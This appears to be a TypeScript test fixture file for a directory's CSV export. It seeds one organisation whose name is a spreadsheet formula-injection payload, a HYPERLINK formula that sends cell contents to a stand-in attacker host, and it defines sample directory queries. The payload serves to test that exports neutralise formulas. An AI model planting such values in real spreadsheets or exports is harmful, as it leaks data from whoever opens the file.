import { parse } from 'csv-parse/sync';
import { systemActor } from '../../src/audit/actor';
import { Organisation } from '../../src/models/organisation';
import { syncOrganisationDerivedFields } from '../../src/registry/derivedFields';
import { identityKeyOf, toSearchKey } from '../../src/models/searchKey';
import type { TestApp } from '../helpers/app';
import { loadFixtureRegistry, resultSlugs } from '../directory/fixtures';

/** A name a spreadsheet would run as a formula, were it not neutralised. */
export const INJECTION_NAME = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click")';
export const INJECTION_SLUG = 'formula-injection-test';

/** The directory fixtures plus one organisation whose name is a CSV injection payload. */
export async function loadOpenDataFixtures(testApp: TestApp): Promise<void> {
  await loadFixtureRegistry(testApp.services);
  const fields = {
    slug: INJECTION_SLUG,
    name: INJECTION_NAME,
    searchKey: toSearchKey(INJECTION_NAME),
    identityKey: identityKeyOf(INJECTION_NAME, 'GB'),
    country: 'GB',
    category: 'civil-society',
    sector: 'non-profit',
    website: '-https://attacker.test',
    memberships: [{ initiative: 'paris-call', joinedAt: new Date('2023-04-05T00:00:00Z'), status: 'active' }],
  };
  await testApp.services.recordChange(systemActor('test'), 'organisation.created', async (tx) => {
    const [created] = await Organisation.create([fields], { session: tx.session });
    if (!created) throw new Error('fixture organisation not created');
    await syncOrganisationDerivedFields(tx, created._id);
    return {
      subject: { kind: 'organisation', id: String(created._id) },
      organisation: created._id,
      result: null,
    };
  });
}

/** The slugs the directory page lists for a query, every result on one page. */
export async function directorySlugs(testApp: TestApp, query: string): Promise<string[]> {
  const separator = query ? '&' : '?';
  const response = await testApp.agent().get(`/signatories${query}${separator}size=100&lang=en`);
  if (response.status !== 200) throw new Error(`/signatories${query} answered ${response.status}`);
  return resultSlugs(response.text);
}

export function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, bom: true, record_delimiter: '\r\n' }) as Record<string, string>[];
}

/** Queries chosen to exercise search, each filter kind, and every sort in both directions. */
export const SAMPLE_QUERIES = [
  '',
  '?country=FR',
  '?initiative=tech-accord&sort=joined',
  '?q=soc',
  '?commitment=paris-call:cyber-hygiene',
  '?sort=country&order=desc',
  '?category=private-sector&sort=joined&order=asc',
  '?year=2018&evidence=none',
];
